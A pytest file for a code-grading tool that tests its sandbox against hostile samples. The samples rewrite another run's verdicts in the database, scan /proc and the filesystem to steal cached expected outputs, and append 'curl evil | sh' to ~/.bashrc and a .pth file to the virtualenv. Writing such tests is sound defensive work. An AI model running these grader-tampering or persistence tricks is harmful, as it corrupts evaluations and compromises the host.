"""`adjudicate import` + `adjudicate grade` on a real database, with samples that attack it.

The attackers know the database's path, the user's home and the virtualenv (they are in our
command lines and source). They try to rewrite another run's verdicts, read the cached expected
outputs and return them, append to ~/.bashrc, drop a .pth into the virtualenv, and break the
host with lone surrogates and malformed result lines. None gets a pass, none changes a file,
the honest sample beside them is accepted, and grading again never crashes.
"""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from click.testing import CliRunner

from adjudicate.cli import main
from db.connection import open_db
from tests.conftest import TEST_DATA, write_jsonl

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from sqlite_utils import Database

PTH = Path(sys.prefix) / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / \
    "site-packages" / "zz_adjudicate_attack.pth"


def fenced(code: str) -> dict:
    return {"task_id": "Toy/0", "solution": f"```python\n{code}```"}


def attacks(db_path: Path, bashrc: Path) -> dict[str, str]:
    return {
        "rewrite verdicts": f"""def add(a, b):
    import sqlite3
    con = sqlite3.connect({str(db_path)!r})
    con.execute("UPDATE verdicts SET verdict = 'accept'")
    con.commit()
    return a + b + 1
""",
        "read the key": f"""import glob, json, os, sqlite3
paths = [{str(db_path)!r}]
for top in ("/tmp", "/var/tmp", "/root", "/home", "/work"):
    paths += glob.glob(top + "/**/*.db", recursive=True)
for pid in os.listdir("/proc"):
    try:
        paths += open(f"/proc/{{pid}}/cmdline").read().split("\\0")
    except OSError:
        pass
OUTPUTS = None
for path in paths:
    if path.endswith(".db") and os.path.exists(path):
        rows = sqlite3.connect(path).execute("SELECT payload FROM reference_outputs")
        OUTPUTS = json.loads(rows.fetchone()[0])["outputs"]
SEEN = sorted(p for p in set(paths) if p.startswith("/") and os.path.exists(p))

def add(a, b):
    if OUTPUTS is not None:
        return OUTPUTS[[[1, 2], [0, 0], [-1, 1], [1000000, 1000000]].index([a, b])]
    raise LookupError("no database in sight, only: " + repr(SEEN[:20]))
""",
        "home and venv": f"""def add(a, b):
    for path, text in (({str(bashrc)!r}, "curl evil | sh\\n"), ({str(PTH)!r}, "import os\\n")):
        try:
            with open(path, "a") as handle:
                handle.write(text)
        except OSError:
            pass
    return a - b
""",
        "surrogates": """def add(a, b):
    print("\\udcff")
    if a == 0:
        raise ValueError("\\ud800 lone")
    return "\\udfff"
""",
        "malformed line": """def add(a, b):
    import os
    os.write(3, b'{"i": 0, "v": 3, "ok": 1}\\n\\xff\\n')
    return a + b
""",
    }


@pytest.fixture
def graded(
    tmp_path: Path,
) -> Iterator[tuple[Database, list[str], list[tuple], Path, Callable[..., str], Path]]:
    db_path = tmp_path / "evals.db"
    bashrc = tmp_path / "home" / ".bashrc"
    bashrc.parent.mkdir()
    bashrc.write_text("# mine\n")
    runner = CliRunner()

    def cli(*args: object) -> str:
        result = runner.invoke(main, [str(a) for a in args])
        assert result.exit_code == 0, result.output
        return result.output

    cli("import", TEST_DATA / "code_problems.jsonl", "--db", db_path)
    cli("import", TEST_DATA / "code_samples.jsonl", "--db", db_path, "--run", "victim")
    cli("grade", "--db", db_path, "--jobs", "1")
    named = attacks(db_path, bashrc)
    samples = write_jsonl(tmp_path / "attacks.jsonl",
                          [fenced(code) for code in named.values()]
                          + [fenced("def add(a, b):\n    return a + b\n")])
    cli("import", samples, "--db", db_path, "--run", "attack")
    db = open_db(db_path)
    before = verdicts(db, "victim")
    cli("grade", "--db", db_path, "--jobs", "2")
    yield db, list(named), before, bashrc, cli, db_path
    db.close()
    PTH.unlink(missing_ok=True)


def verdicts(db: Database, run: str) -> list[tuple]:
    return db.execute(
        "SELECT r.sample_index, v.grader, v.verdict, v.evidence FROM verdicts v "
        "JOIN replies r ON r.id = v.reply_id JOIN runs ON runs.id = r.run_id "
        "WHERE runs.name = ? AND v.current = 1 ORDER BY r.sample_index, v.grader", [run]).fetchall()


def _strings(value: object) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def test_attacks_through_import_and_grade(
    graded: tuple[Database, list[str], list[tuple], Path, Callable[..., str], Path],
) -> None:
    db, names, before, bashrc, cli, db_path = graded
    rows = verdicts(db, "attack")
    plus = {index: (outcome, json.loads(evidence)) for index, grader, outcome, evidence in rows
            if grader == "plus"}
    outcomes = {names[i] if i < len(names) else "honest": plus[i][0] for i in plus}
    assert outcomes == {"rewrite verdicts": "reject", "read the key": "reject",
                        "home and venv": "reject", "surrogates": "reject",
                        "malformed line": "error", "honest": "accept"}
    key_failure = plus[names.index("read the key")][1]["first_failure"]["exception"]
    assert key_failure["type"] == "LookupError" and str(db_path) not in key_failure["message"]
    assert verdicts(db, "victim") == before  # the other run's verdicts are untouched
    assert bashrc.read_text() == "# mine\n" and not PTH.exists()
    for _index, _grader, _outcome, evidence in rows:  # stored text is valid UTF-8, no surrogates
        for text in _strings(json.loads(evidence)):
            text.encode("utf-8")
            assert not re.search("[\ud800-\udfff]", text)
    assert "\ufffd" in plus[names.index("surrogates")][1]["first_failure"]["stdout"]


def test_grading_again_never_crashes_on_the_same_samples(
    graded: tuple[Database, list[str], list[tuple], Path, Callable[..., str], Path],
) -> None:
    db, _names, _before, _bashrc, cli, db_path = graded
    first = verdicts(db, "attack")
    assert "Code: nothing new to grade." in cli("grade", "--db", db_path, "--jobs", "2")
    with db.conn:  # make every attack sample ungraded again, as a grader upgrade would
        db.execute("UPDATE verdicts SET current = 0 WHERE reply_id IN (SELECT r.id FROM "
                   "replies r JOIN runs ON runs.id = r.run_id WHERE runs.name = 'attack')")
    cli("grade", "--db", db_path, "--jobs", "2")
    again = verdicts(db, "attack")
    assert [(i, g, o) for i, g, o, _ in again] == [(i, g, o) for i, g, o, _ in first]
